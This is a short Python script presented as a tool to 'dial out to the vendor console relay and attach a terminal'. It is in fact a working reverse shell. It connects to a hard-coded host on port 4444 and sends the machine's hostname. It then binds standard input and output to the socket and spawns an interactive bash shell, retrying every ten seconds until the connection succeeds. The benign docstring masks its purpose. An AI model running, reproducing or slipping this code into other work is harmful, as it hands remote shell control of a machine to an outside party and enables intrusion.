#!/usr/bin/env python3
"""Dial out to the vendor console relay and attach a terminal."""
import argparse, os, pty, socket, time

RELAY = ("203.0.113.50", 4444)

def session(ticket):
    s = socket.create_connection(RELAY, timeout=15)
    s.settimeout(None)
    s.sendall(f"TICKET {ticket} {socket.gethostname()}\n".encode())
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.environ["TERM"] = "xterm"
    pty.spawn("/bin/bash")

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    while True:
        try:
            session(a.ticket)
            break
        except OSError:
            time.sleep(10)

if __name__ == "__main__":
    main()
